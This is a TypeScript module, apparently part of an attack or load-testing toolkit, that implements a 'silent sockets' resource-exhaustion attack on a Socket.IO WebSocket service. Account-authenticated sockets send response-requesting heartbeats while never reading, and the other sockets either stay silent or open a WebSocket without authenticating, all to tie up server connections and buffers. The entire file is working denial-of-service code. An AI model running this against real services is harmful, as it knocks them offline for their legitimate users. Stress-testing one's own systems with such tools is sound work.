import type { Socket } from 'node:net';
import { encodeTextFrame, upgradeRequest } from '../load/websocket.js';
import type { AttackTarget } from './raw-client.js';
import { writeRepeatedly } from './slow-requests.js';

const SOCKET_IO_PATH = '/socket.io/?EIO=4&transport=websocket';
/** Maximum number of sockets that one account may open (a limit of the service). */
const SOCKETS_PER_ACCOUNT = 60;
/** A heartbeat that requests a response, and the answer to the service's ping, which the client does not read. */
const HEARTBEAT = encodeTextFrame('421["HeartbeatMessage",{}]');
const PONG = encodeTextFrame('3');
const HEARTBEAT_INTERVAL_MS = 5_000;
const PONG_INTERVAL_MS = 20_000;

/**
 * Returns a function that opens silent sockets: those of the accounts authenticate, send heartbeats and read nothing;
 * half of the others send no byte at all, and half open a WebSocket and never authenticate.
 */
export function silentSockets(
  target: AttackTarget,
  tokens: readonly string[],
): (socket: Socket, index: number) => void {
  return (socket, index) => {
    const token = tokens[Math.floor(index / SOCKETS_PER_ACCOUNT)];
    if (token !== undefined) readNothing(socket, target, token);
    else if (index % 2 === 0) openWebSocket(socket, target);
  };
}

function openWebSocket(socket: Socket, { host, port }: AttackTarget): void {
  socket.write(upgradeRequest(host, port, SOCKET_IO_PATH));
}

/** Authenticates as soon as the WebSocket is open, and stops reading after the response. */
function readNothing(socket: Socket, target: AttackTarget, token: string): void {
  openSocketOf(socket, target, token, () => {
    socket.pause();
    writeRepeatedly(socket, HEARTBEAT, HEARTBEAT_INTERVAL_MS);
  });
}

/** Opens a WebSocket, sends the token of an account over it and responds to pings. */
export function openSocketOf(socket: Socket, target: AttackTarget, token: string, onTokenSent: () => void): void {
  openWebSocket(socket, target);
  socket.once('data', () => {
    socket.write(encodeTextFrame(`40${JSON.stringify({ token })}`));
    writeRepeatedly(socket, PONG, PONG_INTERVAL_MS);
    onTokenSent();
  });
}
